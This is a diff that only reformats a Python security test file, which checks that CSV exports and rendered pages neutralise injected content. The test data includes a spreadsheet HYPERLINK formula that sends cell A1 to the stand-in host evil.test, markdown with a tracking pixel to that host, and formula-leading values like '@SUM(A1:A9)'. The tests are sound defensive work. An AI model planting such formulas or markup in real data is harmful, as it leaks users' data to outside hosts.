@@ -18,17 +18,19 @@ from payoff.store.models import AIUsageDaily, Person
 from tests.app.conftest import TODAY, oidc_app
 
 FORMULA = '=HYPERLINK("https://evil.test/?"&A1,"click")'
-MARKUP = '![pixel](https://evil.test/p.png) [site](https://evil.test) **loud** :red[alarm] www.evil.test'
+MARKUP = "![pixel](https://evil.test/p.png) [site](https://evil.test) **loud** :red[alarm] www.evil.test"
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
 def inject(url: str, ids: dict[str, int]) -> None:
     with db.session(url) as s:
         s.execute(update(Person).where(Person.email == "eve@acme.test").values(name=f"{FORMULA} {MARKUP}"))
-        s.execute(update(AIUsageDaily).where(AIUsageDaily.identity_id == "import:eve@acme.test")
-                  .values(tool="-2+3 " + MARKUP))
-        self_service.add_signal_note(s, person_id=ids["eve@acme.test"], month="2026-01", signal="any",
-                                     note="@SUM(A1:A9)")
+        s.execute(
+            update(AIUsageDaily).where(AIUsageDaily.identity_id == "import:eve@acme.test").values(tool="-2+3 " + MARKUP)
+        )
+        self_service.add_signal_note(
+            s, person_id=ids["eve@acme.test"], month="2026-01", signal="any", note="@SUM(A1:A9)"
+        )
 
 
 def live_markup(at) -> list[str]:
@@ -60,7 +62,9 @@ def test_every_csv_download_writes_formulas_as_text(org, sqlite_url):
     with db.session(sqlite_url) as s:
         admin = viewer_for(s, "ada@acme.test")
     people = csv_writer.frame_csv(ui.flat(loaders.admin_people(admin).drop(columns="id")))  # as Admin offers it
-    result = CliRunner().invoke(cli, ["metrics", "--month", ui.months(today=TODAY)[1], "--by", "person", "--format", "csv"])
+    result = CliRunner().invoke(
+        cli, ["metrics", "--month", ui.months(today=TODAY)[1], "--by", "person", "--format", "csv"]
+    )
     assert result.exit_code == 0, result.output
     for data in (people.decode(), result.stdout):
         cells = [cell for row in csv.reader(io.StringIO(data)) for cell in row]
